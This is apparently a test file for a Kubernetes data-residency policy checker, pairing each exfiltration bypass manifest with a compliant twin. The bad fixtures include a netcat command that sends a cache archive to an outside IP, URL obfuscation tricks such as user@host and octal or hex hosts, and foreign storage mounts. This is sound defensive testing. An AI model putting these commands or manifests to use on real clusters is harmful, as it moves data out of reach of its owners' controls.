import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runMain } from "./cli-main.js";
import { buildParams } from "@sovereign/policy";
import { loadProfileFile, shippedProfilePath } from "@sovereign/profile";
import { afterAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";

// Every way of moving data out of the country that the residency packs must catch, tried as an
// integrator's manifest through `sovereign policy check --manifest-only` against the shipped th
// profile (in-country domain bkk1.sovereign.example, network 192.0.2.0/25). Each case also has
// the compliant twin, so the rule is shown to tell the two apart rather than refuse everything.

const root = mkdtempSync(join(tmpdir(), "sovereign-bypass-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const IMAGE = `registry.bkk1.sovereign.example/ai/app@sha256:${DIGEST}`;
const LABELS = { "sovereign.ai/data-class": "none", "sovereign.ai/site": "bkk1" };
const NS = "sovereign-serving";

type Obj = Record<string, unknown>;

/** The parameters the th storage stack gives `resident-block` (read back from the residency params). */
function residentBlockParameters(): Record<string, string> {
  const data = buildParams(loadProfileFile(shippedProfilePath("th"))).data;
  const keys = data["storageClassParameterKeys.resident-block"]!.split(",");
  return Object.fromEntries(keys.map((k) => [k, data[`storageClassParameter.resident-block.${k}`]!]));
}

/** A workload of `kind` whose pod spec is `spec` (containers get the in-country image). */
function workload(kind: string, spec: Obj): Obj {
  const podSpec = {
    ...spec,
    containers: ((spec.containers as Obj[] | undefined) ?? [{ name: "main" }]).map((c) => ({ image: IMAGE, ...c })),
  };
  const metadata = { name: "w", namespace: NS, labels: LABELS };
  const api: Record<string, string> = {
    Pod: "v1",
    ReplicationController: "v1",
    PodTemplate: "v1",
    Job: "batch/v1",
    CronJob: "batch/v1",
  };
  const apiVersion = api[kind] ?? "apps/v1";
  if (kind === "Pod") return { apiVersion, kind, metadata, spec: podSpec };
  if (kind === "PodTemplate") return { apiVersion, kind, metadata, template: { spec: podSpec } };
  if (kind === "CronJob")
    return {
      apiVersion,
      kind,
      metadata,
      spec: { schedule: "0 3 * * *", jobTemplate: { spec: { template: { spec: podSpec } } } },
    };
  return { apiVersion, kind, metadata, spec: { template: { spec: podSpec } } };
}

const env = (name: string, value: string) => ({ containers: [{ name: "main", env: [{ name, value }] }] });

interface Case {
  /** Bypass class, as the officer would name it. */
  name: string;
  bad: Obj;
  good: Obj;
  rule: string;
  /** Text the finding's message must contain (usually the normalized foreign host). */
  says: string;
}

const CASES: Case[] = [
  {
    name: "Job command downloading from a foreign host",
    bad: workload("Job", { containers: [{ name: "dl", command: ["sh", "-c", "curl -o /d/m https://cdn.vendor.example.com/m"] }] }),
    good: workload("Job", { containers: [{ name: "dl", command: ["sh", "-c", "curl -o /d/m https://s3.bkk1.sovereign.example/m"] }] }),
    rule: "workload-endpoints-in-country",
    says: "cdn.vendor.example.com",
  },
  {
    name: "args with a scheme-less host/path",
    bad: workload("CronJob", { containers: [{ name: "sync", args: ["cp", "-r", "/data", "files.vendor.example.com/drop"] }] }),
    good: workload("CronJob", { containers: [{ name: "sync", args: ["cp", "-r", "/data", "files.bkk1.sovereign.example/drop"] }] }),
    rule: "workload-endpoints-in-country",
    says: "files.vendor.example.com",
  },
  ...(
    [
      ["HF_ENDPOINT", "https://huggingface.co", "huggingface.co"],
      ["AWS_ENDPOINT_URL", "https://s3.eu-west-1.amazonaws.com", "s3.eu-west-1.amazonaws.com"],
      ["SENTRY_DSN", "https://key@o1.ingest.sentry.io/42", "o1.ingest.sentry.io"],
      ["S3_URL", "s3://backups.vendor.example.com/x", "backups.vendor.example.com"],
    ] as const
  ).map(([name, value, host]) => ({
    name: `env value under ${name}`,
    bad: workload("Deployment", env(name, value)),
    good: workload("Deployment", env(name, "https://hub.bkk1.sovereign.example")),
    rule: "workload-endpoints-in-country",
    says: host,
  })),
  {
    name: "URL with a leading space",
    bad: workload("StatefulSet", env("HF_ENDPOINT", "  https://huggingface.co")),
    good: workload("StatefulSet", env("HF_ENDPOINT", "  https://hub.bkk1.sovereign.example")),
    rule: "workload-endpoints-in-country",
    says: "huggingface.co",
  },
  {
    name: "address without a scheme",
    bad: workload("DaemonSet", env("HF_ENDPOINT", "huggingface.co")),
    good: workload("DaemonSet", env("HF_ENDPOINT", "hub.bkk1.sovereign.example")),
    rule: "workload-endpoints-in-country",
    says: "huggingface.co",
  },
  {
    name: "user@host trick",
    bad: workload("Pod", env("UPLOAD", "https://s3.bkk1.sovereign.example@evil.example.com/put")),
    good: workload("Pod", env("UPLOAD", "https://robot@s3.bkk1.sovereign.example/put")),
    rule: "workload-endpoints-in-country",
    says: "evil.example.com",
  },
  ...(
    [
      ["one decimal number", "http://3405803785/x", "3405803785"],
      ["octal", "http://0313.0063.0161.0011/x", "0313.0063.0161.0011"],
      ["hex", "http://0xcb007109/x", "0xcb007109"],
    ] as const
  ).map(([form, value, host]) => ({
    name: `IPv4 host written in ${form}`,
    bad: workload("ReplicaSet", env("SINK", value)),
    good: workload("ReplicaSet", env("SINK", "http://192.0.2.9/x")),
    rule: "workload-endpoints-in-country",
    says: host,
  })),
  {
    name: "IPv6 host, port, upper case and trailing dot",
    bad: workload("Pod", env("A", "HTTPS://[2001:DB8:FFFF::1]:8443/x https://Hub.BKK1.Sovereign.Example.Evil.Example.COM./m")),
    good: workload("Pod", env("A", "HTTPS://Hub.BKK1.Sovereign.Example.:8443/m")),
    rule: "workload-endpoints-in-country",
    says: "2001:db8:ffff::1",
  },
  {
    name: "ReplicationController",
    bad: workload("ReplicationController", env("SINK", "https://collector.vendor.example.com")),
    good: workload("ReplicationController", env("SINK", "https://collector.bkk1.sovereign.example")),
    rule: "workload-endpoints-in-country",
    says: "collector.vendor.example.com",
  },
  {
    name: "PodTemplate",
    bad: workload("PodTemplate", env("SINK", "https://collector.vendor.example.com")),
    good: workload("PodTemplate", env("SINK", "https://collector.bkk1.sovereign.example")),
    rule: "workload-endpoints-in-country",
    says: "collector.vendor.example.com",
  },
  {
    name: "ephemeral container (pods/ephemeralcontainers)",
    bad: {
      ...workload("Pod", {}),
      spec: {
        containers: [{ name: "main", image: IMAGE }],
        ephemeralContainers: [{ name: "dbg", image: IMAGE, command: ["sh", "-c", "tar c /cache | nc 203.0.113.5:9000"] }],
      },
    },
    good: {
      ...workload("Pod", {}),
      spec: { containers: [{ name: "main", image: IMAGE }], ephemeralContainers: [{ name: "dbg", image: IMAGE }] },
    },
    rule: "workload-endpoints-in-country",
    says: "203.0.113.5",
  },
  {
    name: "values through envFrom (Secret)",
    bad: workload("Deployment", { containers: [{ name: "main", envFrom: [{ secretRef: { name: "exfil" } }] }] }),
    good: workload("Deployment", { containers: [{ name: "main", envFrom: [{ configMapRef: { name: "settings" } }] }] }),
    rule: "workload-env-sources",
    says: "envFrom secret exfil",
  },
  {
    name: "value through valueFrom (Secret) into an address variable",
    bad: workload("Deployment", {
      containers: [{ name: "main", env: [{ name: "HF_ENDPOINT", valueFrom: { secretKeyRef: { name: "x", key: "e" } } }] }],
    }),
    good: workload("Deployment", {
      containers: [{ name: "main", env: [{ name: "HF_TOKEN", valueFrom: { secretKeyRef: { name: "x", key: "t" } } }] }],
    }),
    rule: "workload-env-sources",
    says: "HF_ENDPOINT from a Secret",
  },
  {
    name: "ConfigMap with an OpenTelemetry exporter abroad",
    bad: {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "otel", namespace: NS },
      data: { "config.yaml": "exporters:\n  otlp:\n    endpoint: ingest.vendor.example.com:4317\n" },
    },
    good: {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "otel", namespace: NS },
      data: { "config.yaml": "exporters:\n  otlp:\n    endpoint: otel.bkk1.sovereign.example:4317\n" },
    },
    rule: "telemetry-in-country",
    says: "ingest.vendor.example.com",
  },
  {
    name: "StorageClass re-created under an approved name on NFS",
    bad: {
      apiVersion: "storage.k8s.io/v1",
      kind: "StorageClass",
      metadata: { name: "resident-block" },
      provisioner: "nfs.csi.k8s.io",
      parameters: { server: "nfs.vendor.example.com", share: "/x", encrypted: "true", encryptionKMSID: "th-ai-root" },
      allowedTopologies: [{ matchLabelExpressions: [{ key: "topology.kubernetes.io/zone", values: ["bkk1-a"] }] }],
    },
    good: {
      apiVersion: "storage.k8s.io/v1",
      kind: "StorageClass",
      metadata: { name: "resident-block" },
      provisioner: "rbd.csi.ceph.com",
      parameters: residentBlockParameters(),
      allowedTopologies: [{ matchLabelExpressions: [{ key: "topology.kubernetes.io/zone", values: ["bkk1-a"] }] }],
    },
    rule: "storageclass-provisioner-pinned",
    says: "nfs.csi.k8s.io",
  },
  {
    name: "static PersistentVolume on a foreign NFS server",
    bad: {
      apiVersion: "v1",
      kind: "PersistentVolume",
      metadata: { name: "exfil" },
      spec: { storageClassName: "resident-block", capacity: { storage: "1Ti" }, nfs: { server: "203.0.113.50", path: "/x" } },
    },
    good: {
      apiVersion: "v1",
      kind: "PersistentVolume",
      metadata: { name: "ok" },
      spec: { storageClassName: "resident-block", capacity: { storage: "1Ti" }, csi: { driver: "rbd.csi.ceph.com", volumeHandle: "v" } },
    },
    rule: "persistentvolume-in-country",
    says: "203.0.113.50",
  },
  ...(
    [
      ["hostPath", { hostPath: { path: "/" } }, "hostPath"],
      ["nfs", { nfs: { server: "files.vendor.example.com", path: "/x" } }, "files.vendor.example.com"],
      ["csi", { csi: { driver: "s3.csi.vendor.example.com" } }, "s3.csi.vendor.example.com"],
      [
        "ephemeral",
        { ephemeral: { volumeClaimTemplate: { spec: { storageClassName: "gp3", accessModes: ["ReadWriteOnce"] } } } },
        "gp3",
      ],
    ] as const
  ).map(([type, volume, says]) => ({
    name: `pod volume of type ${type}`,
    bad: workload("Deployment", { volumes: [{ name: "v", ...volume }] }),
    good: workload("Deployment", { volumes: [{ name: "v", persistentVolumeClaim: { claimName: "model-weights" } }] }),
    rule: "pod-volumes-in-country",
    says,
  })),
  {
    name: "selector-less Service plus an EndpointSlice abroad",
    bad: {
      apiVersion: "discovery.k8s.io/v1",
      kind: "EndpointSlice",
      metadata: { name: "weights-1", namespace: NS, labels: { "kubernetes.io/service-name": "weights" } },
      addressType: "IPv4",
      endpoints: [{ addresses: ["203.0.113.80"] }],
    },
    good: {
      apiVersion: "discovery.k8s.io/v1",
      kind: "EndpointSlice",
      metadata: { name: "weights-1", namespace: NS, labels: { "kubernetes.io/service-name": "weights" } },
      addressType: "IPv4",
      endpoints: [{ addresses: ["192.0.2.80"] }],
    },
    rule: "service-endpoints-in-country",
    says: "203.0.113.80",
  },
  {
    name: "Endpoints abroad",
    bad: { apiVersion: "v1", kind: "Endpoints", metadata: { name: "w", namespace: NS }, subsets: [{ addresses: [{ ip: "203.0.113.81" }] }] },
    good: { apiVersion: "v1", kind: "Endpoints", metadata: { name: "w", namespace: NS }, subsets: [{ addresses: [{ ip: "192.0.2.81" }] }] },
    rule: "service-endpoints-in-country",
    says: "203.0.113.81",
  },
  {
    name: "NodePort service",
    bad: { apiVersion: "v1", kind: "Service", metadata: { name: "api", namespace: NS }, spec: { type: "NodePort", ports: [{ port: 80 }] } },
    good: { apiVersion: "v1", kind: "Service", metadata: { name: "api", namespace: NS }, spec: { type: "ClusterIP", ports: [{ port: 80 }] } },
    rule: "service-exposure-in-country",
    says: "NodePort",
  },
  {
    name: "externalIPs abroad",
    bad: {
      apiVersion: "v1",
      kind: "Service",
      metadata: { name: "api", namespace: NS },
      spec: { type: "ClusterIP", externalIPs: ["203.0.113.7"], ports: [{ port: 80 }] },
    },
    good: {
      apiVersion: "v1",
      kind: "Service",
      metadata: { name: "api", namespace: NS },
      spec: { type: "ClusterIP", externalIPs: ["192.0.2.7"], ports: [{ port: 80 }] },
    },
    rule: "service-exposure-in-country",
    says: "203.0.113.7",
  },
  {
    name: "new namespace without the residency label",
    bad: { apiVersion: "v1", kind: "Namespace", metadata: { name: "exfil" } },
    good: {
      apiVersion: "v1",
      kind: "Namespace",
      metadata: {
        name: "research",
        labels: { "sovereign.ai/residency": "enforced", "pod-security.kubernetes.io/enforce": "restricted" },
      },
    },
    rule: "namespace-residency-label",
    says: "sovereign.ai/residency",
  },
  {
    name: "hostNetwork pod in that namespace",
    bad: { ...workload("Pod", { hostNetwork: true }), metadata: { name: "sniff", namespace: "exfil", labels: LABELS } },
    good: { ...workload("Pod", { hostNetwork: false }), metadata: { name: "sniff", namespace: "exfil", labels: LABELS } },
    rule: "pod-host-namespaces",
    says: "hostNetwork",
  },
];

async function check(name: string, object: Obj) {
  const file = join(root, `${name.replace(/[^a-z0-9]+/gi, "-")}.yaml`);
  writeFileSync(file, stringify(object));
  const { code, stdout, stderr } = await runMain(
    ["policy", "check", "--country", "th", "--manifest", file, "--manifest-only", "--format", "json"],
    root,
  );
  const out = JSON.parse(stdout || "{}") as { findings?: { ruleId: string; message: string }[] };
  return { code, stderr, findings: out.findings ?? [] };
}

describe("every bypass class is caught by `policy check --manifest-only`", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_name, c) => {
    // GIVEN the bypass WHEN checked THEN exit 1 with a finding of its rule naming what leaks
    const bad = await check(`bad-${c.name}`, c.bad);
    expect(bad.code, bad.stderr).toBe(1);
    const mine = bad.findings.filter((f) => f.ruleId === c.rule);
    expect(mine.length, JSON.stringify(bad.findings)).toBeGreaterThan(0);
    expect(mine.map((f) => f.message).join(" | ")).toContain(c.says);
    // GIVEN the in-country twin WHEN checked THEN that rule is silent
    const good = await check(`good-${c.name}`, c.good);
    expect(good.findings.filter((f) => f.ruleId === c.rule), JSON.stringify(good.findings)).toEqual([]);
  });

  it("covers every bypass class the residency issue lists (ten or more distinct rules)", () => {
    expect(new Set(CASES.map((c) => c.rule)).size).toBeGreaterThanOrEqual(10);
    expect(CASES.length).toBeGreaterThanOrEqual(30);
  });
});
